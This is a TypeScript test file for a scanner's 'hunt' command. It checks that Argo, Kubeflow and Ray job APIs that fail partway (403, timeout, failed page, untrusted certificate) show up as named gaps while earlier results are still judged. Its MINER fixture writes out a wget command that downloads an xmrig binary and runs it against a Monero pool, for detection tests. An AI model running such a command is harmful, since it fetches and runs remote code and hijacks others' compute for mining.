// A list that fails after a job API answered (401/403, a timeout, an untrusted certificate, a
// failing page) costs that list only: what the API already gave is judged, the list is a named
// gap (as `scan --cluster` names a refused list), and the exit code follows the findings.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { kfpV2Routes } from '../../src/testing/fake-job-apis/kfp.js';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { NO_ANSWER, startFakeJobApi, type FakeAnswer, type FakeJobApi, type FakeJobApiOptions, type FakeRoute } from '../../src/testing/fake-job-apis/server.js';
import { REPO_ROOT } from '../../src/testing/shared.js';
import { runCli, tempDir } from '../helpers/cli.js';

const MINER = ['wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 --donate-level 1'];
const FORBIDDEN: FakeAnswer = { status: 403, body: { code: 7, message: 'PermissionDenied' } };

const servers: FakeJobApi[] = [];
const dir = tempDir('kfguard-hunt-gaps-');
after(async () => {
  await Promise.all(servers.map((s) => s.close()));
  dir.cleanup();
});
async function serve(routes: readonly FakeRoute[], options: FakeJobApiOptions = {}): Promise<FakeJobApi> {
  const server = await startFakeJobApi(routes, options);
  servers.push(server);
  return server;
}
/** `answer` for requests whose path ends with `suffix`, ahead of the API's own routes. */
const on = (suffix: string, answer: FakeAnswer): FakeRoute => (url) => (url.pathname.endsWith(suffix) ? answer : undefined);

const argoFixture = () => ({
  workflows: [{ metadata: { name: 'wf-miner', namespace: 'argo', uid: 'u-1', creationTimestamp: '2026-01-05T10:00:00Z' }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'alpine', command: ['sh', '-c'], args: MINER } }] }, status: { phase: 'Running' } }],
  cronWorkflows: [],
  archived: [],
});
const ir = { pipelineInfo: { name: 'p' }, root: { dag: { tasks: { t: { componentRef: { name: 'comp-t' }, taskInfo: { name: 't' } } } } }, components: { 'comp-t': { executorLabel: 'exec-t' } }, deploymentSpec: { executors: { 'exec-t': { container: { image: 'alpine', command: ['sh', '-c'], args: MINER } } } }, schemaVersion: '2.1.0', sdkVersion: 'kfp-2.7.0' };
const kfpFixture = () => ({ pipelines: [], runs: [{ run_id: 'r-miner', display_name: 'xmr', created_at: '2026-01-05T10:00:00Z', state: 'RUNNING', pipeline_spec: ir }], recurringRuns: [], experiments: [] });

type Report = { findings: { ruleId: string; origin: { id?: string } }[]; errors: { file: string; message: string }[]; coverage: { ruleId: string; source: string; reason: string }[] };
const minerIds = (report: Report): string[] => report.findings.filter((f) => f.ruleId === 'crypto-miner-workload').map((f) => String(f.origin.id)).sort();
const gaps = (report: Report): string[] => report.coverage.filter((c) => c.ruleId === '*' && c.source === 'api').map((c) => c.reason);

describe('hunt: a later list refused or timed out', () => {
  test('Argo: cron workflows 403 → the workflow miner is still judged, the gap names the list and the flag; exit 1', async () => {
    const api = await serve([on('/api/v1/cron-workflows/argo', FORBIDDEN), ...argoRoutes(argoFixture())]);
    const run = await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--token', 't0ken', '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['u-1']);
    assert.deepEqual(report.errors, []);
    assert.equal(gaps(report).length, 1, gaps(report).join('\n'));
    assert.match(gaps(report)[0] ?? '', /^argo http:.*: could not list cron workflows in namespace argo: http:.*\/api\/v1\/cron-workflows\/argo: 403 forbidden: PermissionDenied — the credentials given with --token were refused/);
    assert.match(run.stderr, /kfguard: not read: argo .*could not list cron workflows/);
    assert.doesNotMatch(run.stdout + run.stderr, /t0ken/);
  });

  test('Argo: a list that never answers is a gap after --timeout; the others are read', async () => {
    const api = await serve([on('/api/v1/workflow-templates/argo', NO_ANSWER), ...argoRoutes(argoFixture())]);
    const run = await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--timeout', '1s', '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['u-1']);
    assert.match(gaps(report).join('\n'), /could not list workflow templates in namespace argo: .*no answer within 1 s — check the URL and the network path, or raise --timeout/);
    assert.ok(api.requests.some((r) => r.path.startsWith('/api/v1/cron-workflows/argo')), 'the lists after the one that hung are still asked');
  });

  test('Argo: every list refused is nothing read: an input error, exit 2', async () => {
    const api = await serve([(url) => (url.pathname.startsWith('/api/v1/') ? FORBIDDEN : undefined)]);
    const run = await runCli(['hunt', '--argo', api.url, '--format', 'json']);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /input error: argo .*\/api\/v1\/workflows\/: 403 forbidden/);
  });

  test('Argo: a page that fails keeps the pages before it', async () => {
    const fixture = argoFixture();
    const workflows = [...fixture.workflows, ...Array.from({ length: 150 }, (_, i) => ({ metadata: { name: `wf-${i}`, namespace: 'argo', uid: `u-x${i}` }, spec: { templates: [] } }))];
    const api = await serve([(url) => (url.pathname === '/api/v1/workflows/argo' && url.searchParams.has('listOptions.continue') ? { status: 500, body: { message: 'etcd timeout' } } : undefined), ...argoRoutes({ ...fixture, workflows })]);
    const report = JSON.parse((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json'])).stdout) as Report;
    assert.deepEqual(minerIds(report), ['u-1']);
    assert.match(gaps(report).join('\n'), /could not list workflows in namespace argo \(stopped after 100 item\(s\), which are judged\): .*HTTP 500: etcd timeout/);
  });

  test('KFP: recurring runs 403 → the run miner is still judged; exit 1', async () => {
    const api = await serve([on('/apis/v2beta1/recurringruns', FORBIDDEN), ...kfpV2Routes(kfpFixture())]);
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['r-miner']);
    assert.match(gaps(report).join('\n'), /could not list v2beta1 recurring runs: .*\/apis\/v2beta1\/recurringruns: 403 forbidden: PermissionDenied — this API needs credentials: pass --token/);
  });

  test('KFP: recurring runs that never answer: a gap after --timeout, the runs judged', async () => {
    const api = await serve([on('/apis/v2beta1/recurringruns', NO_ANSWER), ...kfpV2Routes(kfpFixture())]);
    const run = await runCli(['hunt', '--kfp', api.url, '--timeout', '1s', '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['r-miner']);
    assert.match(gaps(report).join('\n'), /could not list v2beta1 recurring runs: .*no answer within 1 s/);
  });

  test('KFP: a 403 on the pipeline version a run names costs that run only, said with the flag', async () => {
    const fixture = kfpFixture();
    const api = await serve([
      on('/versions/v-locked', FORBIDDEN),
      ...kfpV2Routes({ ...fixture, pipelines: [{ pipeline_id: 'pl-1', display_name: 'p' }], versions: { 'pl-1': [] }, runs: [...fixture.runs, { run_id: 'r-ref', display_name: 'ref', pipeline_version_reference: { pipeline_id: 'pl-1', pipeline_version_id: 'v-locked' } }] }),
    ]);
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['r-miner']);
    assert.match(run.stderr, /run r-ref runs pipeline version v-locked of pipeline pl-1, which could not be read \(.*403 forbidden.*pass --token.*\): what the run executed was not judged/);
  });

  test('Ray: /api/version answers, /api/jobs/ 403 or hangs: named as the jobs list, the other APIs judged', async () => {
    const argo = await serve(argoRoutes(argoFixture()));
    const refused = await serve([on('/api/jobs/', FORBIDDEN), ...rayRoutes([rayJob({ submission_id: 'raysubmit_x', entrypoint: 'python x.py' })])]);
    const hung = await serve([on('/api/jobs/', NO_ANSWER), ...rayRoutes([])]);
    const run = await runCli(['hunt', '--ray', refused.url, '--ray', hung.url, '--argo', argo.url, '-n', 'argo', '--timeout', '1s', '--format', 'json']);
    assert.equal(run.code, 2, 'nothing of either Ray head was read: input errors');
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['u-1'], "Argo's findings are kept");
    assert.match(run.stderr, /input error: ray .*: could not list jobs: .*\/api\/jobs\/: 403 forbidden: PermissionDenied \(this API needs credentials/);
    assert.match(run.stderr, /input error: ray .*: could not list jobs: .*\/api\/jobs\/: no answer within 1 s/);
  });
});

/** The built CLI, so NODE_EXTRA_CA_CERTS (read at start-up only) can trust the fake's CA. Needs `npm run build`. */
function runBinAsync(args: readonly string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [join(REPO_ROOT, 'bin', 'kfguard.js'), ...args], { env: { PATH: process.env.PATH ?? '', NO_COLOR: '1', ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

describe('hunt (built CLI): an untrusted certificate on a later request', () => {
  const trusting = (api: FakeJobApi): Record<string, string> => {
    const file = join(dir.path, `ca-${servers.indexOf(api)}.pem`);
    writeFileSync(file, api.caPem ?? '');
    return { NODE_EXTRA_CA_CERTS: file };
  };
  const TLS_GAP = /TLS error [A-Z_]+.*add its CA with NODE_EXTRA_CA_CERTS/;

  test('Argo: workflows read over a trusted certificate, the next lists not: gaps, the miner judged', async () => {
    const api = await serve(argoRoutes(argoFixture()), { tls: { untrustedAfter: 1 } });
    const run = await runBinAsync(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json'], trusting(api));
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['u-1']);
    assert.match(gaps(report).find((g) => g.includes('cron workflows')) ?? '', TLS_GAP);
  });

  test('KFP: pipelines, experiments and runs read, recurring runs over an untrusted certificate: a gap', async () => {
    const api = await serve(kfpV2Routes(kfpFixture()), { tls: { untrustedAfter: 3 } });
    const run = await runBinAsync(['hunt', '--kfp', api.url, '--format', 'json'], trusting(api));
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.deepEqual(minerIds(report), ['r-miner']);
    assert.match(gaps(report).join('\n'), new RegExp(`could not list v2beta1 recurring runs: .*${TLS_GAP.source}`));
  });

  test('Ray: /api/version trusted, /api/jobs/ not: the jobs list is named with the CA hint', async () => {
    const api = await serve(rayRoutes([]), { tls: { untrustedAfter: 1 } });
    const run = await runBinAsync(['hunt', '--ray', api.url, '--format', 'json'], trusting(api));
    assert.equal(run.code, 2);
    assert.match(run.stderr, new RegExp(`input error: ray .*could not list jobs: .*${TLS_GAP.source}`));
  });
});
